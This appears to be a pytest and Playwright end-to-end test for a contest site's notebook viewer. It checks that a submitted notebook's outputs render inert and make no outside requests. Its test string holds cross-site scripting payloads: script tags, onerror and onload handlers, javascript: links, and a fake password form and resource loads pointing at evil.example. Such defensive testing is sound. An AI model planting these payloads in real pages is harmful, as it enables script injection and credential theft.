"""A hostile notebook in a real browser: nothing of it runs, and no request leaves."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, expect

from tests.e2e.browser import Window
from tests.e2e.test_first_contest import sign_up
from tests.runners.notebook_stage import code, notebook
from tests.stack import PERFECT, Stack

pytestmark = [pytest.mark.e2e, pytest.mark.once, pytest.mark.sandbox, pytest.mark.timeout(300)]

PATIENT_MS = 60_000
_ATTACKS = """
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(Javascript("window.top.hacked = 1; alert(1)"))
display(HTML("<script>window.top.hacked = 1; fetch('https://evil.example/')</script>table below"))
display(HTML("<img src=x onerror='window.top.hacked = 1'><img src='https://evil.example/pixel.png'>"))
display(HTML("<svg onload='window.top.hacked = 1'></svg><iframe src='https://evil.example/'></iframe>"))
display(HTML("<style>@import url(https://evil.example/a.css);</style>"))
display(HTML("<p style='background: url(https://evil.example/b.png)'>coloured</p>"))
display(HTML("<meta http-equiv=refresh content='0; url=https://evil.example/'><base href='https://evil.example/'>"))
display(HTML("<form action='https://evil.example/'><input name=password><button>Sign in</button></form>"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='window.top.hacked = 1'><circle r='9'/></svg>"))
display(Markdown("[a link](javascript:window.top.hacked=1) ![x](https://evil.example/md.png)"))
display(Markdown("<img src=x onerror=alert(1)>"))
import pandas, matplotlib.pyplot as plt
display(pandas.DataFrame({"colour": ["teal"]}))
plt.plot([1, 3, 2])
plt.show()
"""


def test_an_executed_notebook_is_shown_and_inert(stack: Stack, browser: Browser, tmp_path: Path) -> None:
    window = Window(browser, stack.url)
    page = window.page
    asked: list[str] = []
    said: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))

    def dismiss(dialog: Dialog) -> None:
        said.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    sign_up(window, "notebooker")
    file = tmp_path / "hostile work.ipynb"
    markdown = {"cell_type": "markdown", "metadata": {}, "source": "# A title <img src=x onerror=alert(1)>"}
    file.write_bytes(notebook(markdown, code(_ATTACKS), PERFECT.decode()))
    page.goto("/contests/tiny/submit/")
    page.get_by_label("File").set_input_files(file)
    page.get_by_role("button", name="Hand in").click()
    expect(page.locator("#log")).to_contain_text("[cell 1/2]", timeout=PATIENT_MS)
    expect(page.locator("#status-badge")).to_have_text("Scored", timeout=PATIENT_MS)
    page.reload()
    frame = page.frame_locator("iframe.notebook-frame")
    page.locator("iframe.notebook-frame").scroll_into_view_if_needed()
    expect(frame.get_by_role("heading", name="A title")).to_be_visible()
    expect(frame.get_by_role("cell", name="teal")).to_be_visible()
    expect(frame.locator("img[src^='data:image/png']").first).to_be_visible()
    expect(frame.get_by_text("written", exact=True)).to_be_visible()
    assert frame.locator("form, iframe, script, svg, style + style").count() == 0
    window.shot("notebook-light")
    assert page.evaluate("window.hacked") is None
    for width, scheme in ((1280, "dark"), (360, "light")):
        page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
        page.set_viewport_size({"width": width, "height": 900})
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        page.locator("iframe.notebook-frame").scroll_into_view_if_needed()
        window.shot(f"notebook-{scheme}-{width}")
    page.goto(f"{page.url}notebook/")  # opened by itself it is as inert as in its frame
    expect(page.get_by_text("table below", exact=True)).to_be_visible()
    assert said == []
    assert [url for url in asked if not url.startswith((stack.url, "data:"))] == []
